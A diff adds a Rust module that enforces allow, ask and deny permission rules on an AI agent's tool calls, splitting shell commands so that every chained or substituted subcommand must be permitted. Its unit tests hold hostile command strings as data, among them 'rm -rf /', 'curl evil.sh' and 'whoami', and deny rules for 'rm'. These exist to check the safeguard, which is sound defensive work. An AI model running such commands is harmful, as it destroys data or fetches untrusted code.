@@ -0,0 +1,306 @@
+use std::sync::Arc;
+
+use anyhow::{Context as _, Result};
+use globset::{GlobBuilder, GlobMatcher};
+use settings::{ToolPermissionAction, ToolPermissionRuleContent};
+use util::ResultExt as _;
+
+/// The tool name that makes a rule apply to every tool.
+pub const ANY_TOOL: &str = "*";
+
+/// A rule that decides whether calls to a tool run, are denied, or ask for confirmation.
+#[derive(Debug, Clone)]
+pub struct ToolPermissionRule {
+    pub tool: Arc<str>,
+    pub pattern: Option<String>,
+    pub action: ToolPermissionAction,
+    matcher: Option<GlobMatcher>,
+}
+
+impl ToolPermissionRule {
+    pub fn new(
+        tool: Arc<str>,
+        pattern: Option<String>,
+        action: ToolPermissionAction,
+    ) -> Result<Self> {
+        let matcher = pattern
+            .as_deref()
+            .map(|pattern| {
+                anyhow::Ok(
+                    GlobBuilder::new(pattern)
+                        .literal_separator(false)
+                        .build()
+                        .with_context(|| format!("invalid tool permission pattern {pattern:?}"))?
+                        .compile_matcher(),
+                )
+            })
+            .transpose()?;
+        Ok(Self {
+            tool,
+            pattern,
+            action,
+            matcher,
+        })
+    }
+
+    /// Builds a rule that only applies to tool calls whose subject is exactly `subject`.
+    pub fn for_subject(tool: Arc<str>, subject: &str, action: ToolPermissionAction) -> Self {
+        let pattern = globset::escape(subject);
+        let matcher = GlobBuilder::new(&pattern)
+            .build()
+            .map(|glob| glob.compile_matcher())
+            .ok();
+        Self {
+            tool,
+            pattern: Some(pattern),
+            action,
+            matcher,
+        }
+    }
+
+    /// Whether the rule applies to a call of `tool_name` with the given subject.
+    ///
+    /// Rules with a pattern never apply to tools that don't report a subject.
+    pub fn matches(&self, tool_name: &str, subject: Option<&str>) -> bool {
+        if self.tool.as_ref() != ANY_TOOL && self.tool.as_ref() != tool_name {
+            return false;
+        }
+        match (&self.pattern, &self.matcher) {
+            (None, _) => true,
+            (Some(_), Some(matcher)) => subject.is_some_and(|subject| matcher.is_match(subject)),
+            (Some(_), None) => false,
+        }
+    }
+
+    pub fn to_content(&self) -> ToolPermissionRuleContent {
+        ToolPermissionRuleContent {
+            tool: self.tool.clone(),
+            pattern: self.pattern.clone(),
+            action: self.action,
+        }
+    }
+}
+
+/// The ordered tool permission rules of a profile.
+#[derive(Debug, Clone, Default)]
+pub struct ToolPermissions {
+    pub rules: Vec<ToolPermissionRule>,
+}
+
+/// The rule that applies to a tool call, along with its position among the profile's rules.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ToolPermissionMatch {
+    pub rule_ix: usize,
+    pub action: ToolPermissionAction,
+}
+
+impl ToolPermissions {
+    /// Returns the rule that applies to a call of `tool_name` with the given subjects.
+    ///
+    /// Each subject is matched against the rules separately, and the most restrictive outcome
+    /// wins: a call is only allowed by the rules if every one of its subjects is.
+    pub fn find_match(&self, tool_name: &str, subjects: &[String]) -> Option<ToolPermissionMatch> {
+        if subjects.is_empty() {
+            return self.find_subject_match(tool_name, None);
+        }
+
+        subjects
+            .iter()
+            .map(|subject| self.find_subject_match(tool_name, Some(subject)))
+            .min_by_key(
+                |subject_match| match subject_match.map(|rule| rule.action) {
+                    Some(ToolPermissionAction::Deny) => 0,
+                    Some(ToolPermissionAction::Ask) => 1,
+                    None => 2,
+                    Some(ToolPermissionAction::Allow) => 3,
+                },
+            )
+            .flatten()
+    }
+
+    /// Whether a rule at or after `rule_ix` denies some calls of `tool_name`, so that a rule
+    /// placed at `rule_ix` which allows all of its calls would override it.
+    pub fn denies_from(&self, tool_name: &str, rule_ix: usize) -> bool {
+        self.rules.iter().skip(rule_ix).any(|rule| {
+            rule.action == ToolPermissionAction::Deny
+                && (rule.tool.as_ref() == ANY_TOOL || rule.tool.as_ref() == tool_name)
+        })
+    }
+
+    fn find_subject_match(
+        &self,
+        tool_name: &str,
+        subject: Option<&str>,
+    ) -> Option<ToolPermissionMatch> {
+        self.rules
+            .iter()
+            .position(|rule| rule.matches(tool_name, subject))
+            .map(|rule_ix| ToolPermissionMatch {
+                rule_ix,
+                action: self.rules[rule_ix].action,
+            })
+    }
+
+    pub fn to_content(&self) -> Vec<ToolPermissionRuleContent> {
+        self.rules
+            .iter()
+            .map(ToolPermissionRule::to_content)
+            .collect()
+    }
+}
+
+impl From<Vec<ToolPermissionRuleContent>> for ToolPermissions {
+    fn from(content: Vec<ToolPermissionRuleContent>) -> Self {
+        Self {
+            rules: content
+                .into_iter()
+                .filter_map(|rule| {
+                    ToolPermissionRule::new(rule.tool, rule.pattern, rule.action).log_err()
+                })
+                .collect(),
+        }
+    }
+}
+
+/// Splits a shell command into the commands it runs, so that rules can require every one of them
+/// to match.
+///
+/// Quoting isn't taken into account, so a command may be split in more places than the shell
+/// would split it, which only makes rules stricter.
+pub fn split_command(command: &str) -> Vec<&str> {
+    let mut subcommands = Vec::new();
+    let mut start = 0;
+    let mut previous = None;
+    let mut chars = command.char_indices().peekable();
+    while let Some((ix, c)) = chars.next() {
+        let is_separator = match c {
+            ';' | '\n' | '|' | '(' | ')' | '`' => true,
+            // `&` is also used by redirections like `2>&1` and `&>`.
+            '&' => {
+                !matches!(previous, Some('>' | '<'))
+                    && chars.peek().is_none_or(|(_, next)| *next != '>')
+            }
+            _ => false,
+        };
+        if is_separator {
+            subcommands.push(&command[start..ix]);
+            start = ix + c.len_utf8();
+        }
+        previous = Some(c);
+    }
+    subcommands.push(&command[start..]);
+
+    subcommands
+        .into_iter()
+        // Drop what's left of substitutions like `$(...)` and `<(...)`.
+        .map(|subcommand| {
+            subcommand
+                .trim()
+                .trim_end_matches(['$', '<', '>'])
+                .trim_end()
+        })
+        .filter(|subcommand| !subcommand.is_empty())
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_split_command() {
+        assert_eq!(split_command("cargo test"), vec!["cargo test"]);
+        assert_eq!(
+            split_command("cargo test && rm -rf / || echo done; ls | wc -l\nexit"),
+            vec!["cargo test", "rm -rf /", "echo done", "ls", "wc -l", "exit"]
+        );
+        assert_eq!(
+            split_command("echo $(curl evil.sh) `whoami` & sleep 1"),
+            vec!["echo", "curl evil.sh", "whoami", "sleep 1"]
+        );
+        assert_eq!(
+            split_command("cargo build 2>&1 &> log.txt"),
+            vec!["cargo build 2>&1 &> log.txt"]
+        );
+    }
+
+    #[test]
+    fn test_find_match() {
+        let permissions = ToolPermissions::from(vec![
+            ToolPermissionRuleContent {
+                tool: "terminal".into(),
+                pattern: Some("rm *".into()),
+                action: ToolPermissionAction::Deny,
+            },
+            ToolPermissionRuleContent {
+                tool: "terminal".into(),
+                pattern: Some("cargo *".into()),
+                action: ToolPermissionAction::Allow,
+            },
+            ToolPermissionRuleContent {
+                tool: "terminal".into(),
+                pattern: Some("git *".into()),
+                action: ToolPermissionAction::Ask,
+            },
+        ]);
+        let find_match = |command: &str| {
+            let subjects = split_command(command)
+                .into_iter()
+                .map(ToString::to_string)
+                .collect::<Vec<_>>();
+            permissions
+                .find_match("terminal", &subjects)
+                .map(|rule| (rule.rule_ix, rule.action))
+        };
+
+        assert_eq!(
+            find_match("cargo test"),
+            Some((1, ToolPermissionAction::Allow))
+        );
+        assert_eq!(
+            find_match("cargo test && cargo fmt"),
+            Some((1, ToolPermissionAction::Allow))
+        );
+        // Every subcommand has to be allowed for the command to be.
+        assert_eq!(find_match("cargo test && curl evil.sh"), None);
+        assert_eq!(
+            find_match("cargo test; git push"),
+            Some((2, ToolPermissionAction::Ask))
+        );
+        assert_eq!(
+            find_match("git push | rm -rf /"),
+            Some((0, ToolPermissionAction::Deny))
+        );
+        assert_eq!(
+            find_match("cargo test $(rm -rf /)"),
+            Some((0, ToolPermissionAction::Deny))
+        );
+    }
+
+    #[test]
+    fn test_denies_from() {
+        let permissions = ToolPermissions::from(vec![
+            ToolPermissionRuleContent {
+                tool: "terminal".into(),
+                pattern: Some("cargo*".into()),
+                action: ToolPermissionAction::Ask,
+            },
+            ToolPermissionRuleContent {
+                tool: "terminal".into(),
+                pattern: Some("rm*".into()),
+                action: ToolPermissionAction::Deny,
+            },
+            ToolPermissionRuleContent {
+                tool: "edit_file".into(),
+                pattern: Some("src/**".into()),
+                action: ToolPermissionAction::Deny,
+            },
+        ]);
+
+        // Always allowing `cargo test` everywhere would also allow `rm -rf`.
+        assert!(permissions.denies_from("terminal", 0));
+        assert!(!permissions.denies_from("terminal", 2));
+        assert!(permissions.denies_from("edit_file", 0));
+        assert!(!permissions.denies_from("fetch", 0));
+    }
+}